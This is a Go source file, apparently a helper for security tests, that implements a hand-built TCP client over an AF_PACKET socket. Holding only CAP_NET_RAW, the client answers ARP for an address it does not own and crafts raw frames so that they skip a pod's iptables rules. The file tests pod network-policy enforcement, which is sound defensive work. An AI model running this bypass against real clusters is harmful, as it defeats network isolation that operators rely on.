package bypass

// The attacker: a process with CAP_NET_RAW only (in the default capability set of
// containerd and of PSA baseline) that speaks TCP by hand over an AF_PACKET socket.
// Frames sent that way never pass the pod netns's iptables OUTPUT hooks, so the
// per-pod rules the CNI plugin installs cannot see them; only the node can.

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// Environment of the helper process (see TestMain).
const (
	helperEnv    = "MC_BYPASS_RAW_HELPER"
	helperIfEnv  = "MC_BYPASS_IF"
	helperSrcEnv = "MC_BYPASS_SRC"
	helperGWEnv  = "MC_BYPASS_GW"
	helperDstEnv = "MC_BYPASS_DST"
	helperReqEnv = "MC_BYPASS_REQUEST"
)

// capNetRawOnly is CapEff with only CAP_NET_RAW (bit 13).
const capNetRawOnly = 1 << unix.CAP_NET_RAW

// runRawHelper is the helper process's main: it checks that it holds CAP_NET_RAW and
// nothing else, runs one hand-made HTTP exchange and writes the answer to stdout.
func runRawHelper() int {
	capEff, err := effectiveCaps()
	if err != nil {
		fmt.Fprintln(os.Stderr, "raw helper:", err)
		return 3
	}
	if capEff != capNetRawOnly {
		fmt.Fprintf(os.Stderr, "raw helper: CapEff = %#x, want %#x (CAP_NET_RAW only)\n", capEff, capNetRawOnly)
		return 3
	}
	src, err1 := netip.ParseAddr(os.Getenv(helperSrcEnv))
	gw, err2 := netip.ParseAddr(os.Getenv(helperGWEnv))
	dst, err3 := netip.ParseAddrPort(os.Getenv(helperDstEnv))
	if err := errors.Join(err1, err2, err3); err != nil {
		fmt.Fprintln(os.Stderr, "raw helper:", err)
		return 2
	}
	c := rawClient{ifName: os.Getenv(helperIfEnv), src: src, gateway: gw, dst: dst}
	out, err := c.exchange([]byte(os.Getenv(helperReqEnv)), 6*time.Second)
	os.Stdout.Write(out)
	if err != nil {
		fmt.Fprintln(os.Stderr, "raw helper:", err)
		return 1
	}
	return 0
}

// effectiveCaps reads CapEff from /proc/self/status.
func effectiveCaps() (uint64, error) {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0, err
	}
	for l := range strings.SplitSeq(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
			return strconv.ParseUint(strings.TrimSpace(v), 16, 64)
		}
	}
	return 0, errors.New("no CapEff in /proc/self/status")
}

// rawClient is one IPv4 TCP client over an AF_PACKET socket. It claims src on the
// link (answering ARP for it), so the pod's own kernel, which does not own src, stays
// silent instead of resetting the connection it knows nothing about.
type rawClient struct {
	ifName  string
	src     netip.Addr
	gateway netip.Addr
	dst     netip.AddrPort

	fd     int
	ifi    *net.Interface
	gwMAC  net.HardwareAddr
	sport  uint16
	sndNxt uint32
	rcvNxt uint32
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

const (
	etherIPv4 = 0x0800
	etherARP  = 0x0806
	tcpFIN    = 0x01
	tcpSYN    = 0x02
	tcpRST    = 0x04
	tcpPSH    = 0x08
	tcpACK    = 0x10
)

func (c *rawClient) open() error {
	ifi, err := net.InterfaceByName(c.ifName)
	if err != nil {
		return err
	}
	c.ifi = ifi
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("AF_PACKET socket: %w", err)
	}
	c.fd = fd
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
		return fmt.Errorf("bind to %s: %w", c.ifName, err)
	}
	tv := unix.NsecToTimeval((50 * time.Millisecond).Nanoseconds())
	return unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
}

func (c *rawClient) send(frame []byte) error {
	return unix.Sendto(c.fd, frame, 0, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: c.ifi.Index})
}

// recv returns the next incoming frame, or nil after the socket's short timeout.
// Frames are answered on the way when they are ARP requests for src.
func (c *rawClient) recv() ([]byte, error) {
	buf := make([]byte, 65536)
	for {
		n, from, err := unix.Recvfrom(c.fd, buf, 0)
		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
			return nil, nil
		}
		if err != nil {
			return nil, err
		}
		if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
			continue
		}
		frame := buf[:n]
		if len(frame) >= 42 && binary.BigEndian.Uint16(frame[12:]) == etherARP {
			c.answerARP(frame)
		}
		return frame, nil
	}
}

func arpFrame(dstMAC, srcMAC net.HardwareAddr, op uint16, sha net.HardwareAddr, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) []byte {
	f := make([]byte, 42)
	copy(f[0:], dstMAC)
	copy(f[6:], srcMAC)
	binary.BigEndian.PutUint16(f[12:], etherARP)
	binary.BigEndian.PutUint16(f[14:], 1) // Ethernet
	binary.BigEndian.PutUint16(f[16:], etherIPv4)
	f[18], f[19] = 6, 4
	binary.BigEndian.PutUint16(f[20:], op)
	copy(f[22:], sha)
	s4 := spa.As4()
	copy(f[28:], s4[:])
	copy(f[32:], tha)
	t4 := tpa.As4()
	copy(f[38:], t4[:])
	return f
}

// answerARP replies to "who has src?": the node then sends src's packets here.
func (c *rawClient) answerARP(f []byte) {
	if binary.BigEndian.Uint16(f[20:]) != 1 {
		return
	}
	tpa := netip.AddrFrom4([4]byte(f[38:42]))
	if tpa != c.src {
		return
	}
	sha := net.HardwareAddr(bytes.Clone(f[22:28]))
	spa := netip.AddrFrom4([4]byte(f[28:32]))
	_ = c.send(arpFrame(sha, c.ifi.HardwareAddr, 2, c.ifi.HardwareAddr, c.src, sha, spa))
}

// resolveGateway asks for the gateway's MAC, from src: the request also tells the
// node that src is here.
func (c *rawClient) resolveGateway(deadline time.Time) error {
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	req := arpFrame(bcast, c.ifi.HardwareAddr, 1, c.ifi.HardwareAddr, c.src, make(net.HardwareAddr, 6), c.gateway)
	for next := time.Now(); time.Now().Before(deadline); {
		if time.Now().After(next) {
			if err := c.send(req); err != nil {
				return fmt.Errorf("send ARP request: %w", err)
			}
			next = time.Now().Add(300 * time.Millisecond)
		}
		f, err := c.recv()
		if err != nil {
			return err
		}
		if len(f) >= 42 && binary.BigEndian.Uint16(f[12:]) == etherARP && binary.BigEndian.Uint16(f[20:]) == 2 &&
			netip.AddrFrom4([4]byte(f[28:32])) == c.gateway {
			c.gwMAC = net.HardwareAddr(bytes.Clone(f[22:28]))
			return nil
		}
	}
	return fmt.Errorf("no ARP answer from gateway %s", c.gateway)
}

func checksum(parts ...[]byte) uint16 {
	var sum uint32
	for _, b := range parts {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// segment builds one Ethernet frame carrying a TCP segment from src to dst.
func (c *rawClient) segment(flags byte, payload []byte) []byte {
	const ipLen, tcpLen = 20, 20
	f := make([]byte, 14+ipLen+tcpLen+len(payload))
	copy(f[0:], c.gwMAC)
	copy(f[6:], c.ifi.HardwareAddr)
	binary.BigEndian.PutUint16(f[12:], etherIPv4)
	ip := f[14 : 14+ipLen]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(ipLen+tcpLen+len(payload)))
	binary.BigEndian.PutUint16(ip[6:], 0x4000) // DF
	ip[8], ip[9] = 64, unix.IPPROTO_TCP
	s4, d4 := c.src.As4(), c.dst.Addr().As4()
	copy(ip[12:], s4[:])
	copy(ip[16:], d4[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	tcp := f[14+ipLen:]
	binary.BigEndian.PutUint16(tcp[0:], c.sport)
	binary.BigEndian.PutUint16(tcp[2:], c.dst.Port())
	binary.BigEndian.PutUint32(tcp[4:], c.sndNxt)
	if flags&tcpACK != 0 {
		binary.BigEndian.PutUint32(tcp[8:], c.rcvNxt)
	}
	tcp[12] = tcpLen / 4 << 4
	tcp[13] = flags
	binary.BigEndian.PutUint16(tcp[14:], 65535)
	copy(tcp[tcpLen:], payload)
	pseudo := make([]byte, 12)
	copy(pseudo[0:], s4[:])
	copy(pseudo[4:], d4[:])
	pseudo[9] = unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(pseudo[10:], uint16(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo, tcp))
	return f
}

// tcpIn is an incoming segment of our connection.
type tcpIn struct {
	seq, ack uint32
	flags    byte
	payload  []byte
}

// parse returns the segment in f if it belongs to our connection.
func (c *rawClient) parse(f []byte) (tcpIn, bool) {
	if len(f) < 14+20+20 || binary.BigEndian.Uint16(f[12:]) != etherIPv4 {
		return tcpIn{}, false
	}
	ip := f[14:]
	ihl := int(ip[0]&0x0f) * 4
	total := int(binary.BigEndian.Uint16(ip[2:]))
	if ip[9] != unix.IPPROTO_TCP || total > len(ip) || ihl < 20 || total < ihl+20 {
		return tcpIn{}, false
	}
	if netip.AddrFrom4([4]byte(ip[12:16])) != c.dst.Addr() || netip.AddrFrom4([4]byte(ip[16:20])) != c.src {
		return tcpIn{}, false
	}
	tcp := ip[ihl:total]
	if binary.BigEndian.Uint16(tcp[0:]) != c.dst.Port() || binary.BigEndian.Uint16(tcp[2:]) != c.sport {
		return tcpIn{}, false
	}
	off := int(tcp[12]>>4) * 4
	if off < 20 || off > len(tcp) {
		return tcpIn{}, false
	}
	return tcpIn{seq: binary.BigEndian.Uint32(tcp[4:]), ack: binary.BigEndian.Uint32(tcp[8:]), flags: tcp[13], payload: tcp[off:]}, true
}

// exchange connects, sends request and returns what the server sent until it closed
// the connection or the time ran out (an error then, with what came so far).
func (c *rawClient) exchange(request []byte, timeout time.Duration) ([]byte, error) {
	deadline := time.Now().Add(timeout)
	if err := c.open(); err != nil {
		return nil, err
	}
	defer unix.Close(c.fd)
	if err := c.resolveGateway(deadline); err != nil {
		return nil, err
	}
	var rnd [6]byte
	if _, err := rand.Read(rnd[:]); err != nil {
		return nil, err
	}
	c.sport = 40000 + binary.BigEndian.Uint16(rnd[0:])%20000
	iss := binary.BigEndian.Uint32(rnd[2:])

	// Handshake.
	c.sndNxt = iss
	syn := c.segment(tcpSYN, nil)
	established := false
	for next := time.Now(); !established; {
		if time.Now().After(deadline) {
			return nil, errors.New("no SYN-ACK: the connection was dropped")
		}
		if time.Now().After(next) {
			if err := c.send(syn); err != nil {
				return nil, err
			}
			next = time.Now().Add(500 * time.Millisecond)
		}
		f, err := c.recv()
		if err != nil {
			return nil, err
		}
		seg, ok := c.parse(f)
		switch {
		case !ok:
		case seg.flags&tcpRST != 0:
			return nil, errors.New("connection reset during the handshake")
		case seg.flags&(tcpSYN|tcpACK) == tcpSYN|tcpACK && seg.ack == iss+1:
			c.sndNxt, c.rcvNxt = iss+1, seg.seq+1
			established = true
		}
	}

	// Request, then read to the server's FIN, acknowledging in-order data.
	reqFrame := c.segment(tcpACK|tcpPSH, request)
	c.sndNxt += uint32(len(request))
	var out []byte
	acked := false
	for next := time.Now(); ; {
		if time.Now().After(deadline) {
			return out, errors.New("timed out before the server closed the connection")
		}
		if !acked && time.Now().After(next) {
			if err := c.send(reqFrame); err != nil {
				return out, err
			}
			next = time.Now().Add(500 * time.Millisecond)
		}
		f, err := c.recv()
		if err != nil {
			return out, err
		}
		seg, ok := c.parse(f)
		if !ok {
			continue
		}
		if seg.flags&tcpRST != 0 {
			return out, errors.New("connection reset")
		}
		if seg.flags&tcpACK != 0 && seg.ack == c.sndNxt {
			acked = true
		}
		if seg.seq == c.rcvNxt {
			out = append(out, seg.payload...)
			c.rcvNxt += uint32(len(seg.payload))
			if seg.flags&tcpFIN != 0 {
				c.rcvNxt++
				_ = c.send(c.segment(tcpACK|tcpFIN, nil))
				return out, nil
			}
		}
		if len(seg.payload) > 0 || seg.flags&tcpFIN != 0 {
			if err := c.send(c.segment(tcpACK, nil)); err != nil {
				return out, err
			}
		}
	}
}
